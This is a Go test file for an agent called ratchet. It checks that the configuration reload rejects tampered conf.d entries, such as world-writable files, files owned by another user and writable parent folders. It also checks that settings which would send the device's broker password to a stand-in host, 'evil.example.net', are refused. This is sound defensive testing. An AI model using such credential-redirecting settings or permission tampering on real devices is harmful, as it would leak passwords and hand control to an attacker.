package agent

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"

	"github.com/ratchetd/ratchet/agent/config"
)

var attacksOnTheConfiguration = []attack{
	{"an entry in a conf.d that all can write", func(f *fort) string {
		return f.reloadWith(func(conf string) error { return os.Chmod(conf, 0o777) })
	}},
	{"an entry of another user in conf.d", func(f *fort) string {
		return f.reloadWith(func(conf string) error { return os.Chown(filepath.Join(conf, "evil.toml"), nobody, nobody) })
	}},
	{"an entry in a conf.d below a folder that all can write", func(f *fort) string {
		return f.reloadWith(func(conf string) error { return os.Chmod(filepath.Dir(conf), 0o777) })
	}},
	{"settings that send the password to a new broker", func(f *fort) string {
		f.withPassword("")
		return f.step("settings", map[string]any{"name": "net", "content": evilBroker})
	}},
	{"the same, by way of a value that is filled in", func(f *fort) string {
		f.withPassword("")
		return f.step("settings", map[string]any{"name": "net", "content": map[string]any{"jq": ".vars.evil"}})
	}},
	{"the same, with the password named again, where nobody must sign", func(f *fort) string {
		f.withPassword("")
		text, _, _ := strings.Cut(readAll(f.T, filepath.Join(f.dir, "ratchet.toml")), "[policy]")
		f.write("ratchet.toml", text)
		f.reload()
		return f.step("settings", map[string]any{"name": "net", "content": evilBroker + "username = \"x\"\npasswordFile = \"password\"\n"})
	}},
	{"settings that name a broker beyond policy.urls", func(f *fort) string {
		f.withPassword("urls = [\"*.example.com\"]\n")
		return f.step("settings", map[string]any{"name": "net", "content": evilBroker + "username = \"x\"\npasswordFile = \"password\"\n"})
	}},
}

const evilBroker = "[link]\nbroker = \"tls://evil.example.net:8883\"\n"

// withPassword gives the device a password for its broker, and its policy more rules.
func (f *fort) withPassword(rules string) {
	f.Helper()
	text := strings.Replace(readAll(f.T, filepath.Join(f.dir, "ratchet.toml")), "[link]\n", "[link]\nusername = \"gw-1\"\npasswordFile = \"password\"\n", 1)
	must(f, os.Mkdir(filepath.Join(f.dir, "conf.d"), 0o755))
	f.write("password", "correct-horse\n")
	f.write("conf.d/vars.toml", fmt.Sprintf("[vars]\nevil = %q\n", evilBroker))
	f.write("ratchet.toml", text+rules)
	f.reload()
	if f.config.Load().Link.PasswordFile == "" {
		f.Fatal("the device has no password")
	}
}

// reloadWith lays a schedule into conf.d, which harm opens to others, has the
// device read its configuration again, and tells why it does not. The schedule's
// job needs no signature, for where it lies.
func (f *fort) reloadWith(harm func(conf string) error) string {
	f.Helper()
	conf := filepath.Join(f.dir, "conf.d")
	must(f, os.Mkdir(conf, 0o755))
	f.write("evil.json", mustJSON(f, doc("evil", f.canary, "evil")))
	f.write("conf.d/evil.toml", "[[schedule]]\nname = \"evil\"\ncron = \"@every 1s\"\njob = \"evil.json\"\n")
	if err := harm(conf); errors.Is(err, os.ErrPermission) {
		f.Skip("only root can give a file away")
	} else {
		must(f, err)
	}
	f.reload()
	if got := len(f.config.Load().Schedules); got != 0 {
		f.Errorf("the entry is in force: %d schedules", got)
	}
	f.wantRuns()
	_, err := f.readAgain(config.Draft{})
	if err == nil {
		return "taken"
	}
	why, _, _ := strings.Cut(err.Error(), ": run ")
	return "not reloaded: " + strings.NewReplacer(f.dir, "DIR").Replace(why)
}

// reload has the device read its configuration again, and waits until it has.
func (f *fort) reload() {
	f.signals <- syscall.SIGHUP
	f.signals <- syscall.SIGUSR1 // it is heard when the first was obeyed
}
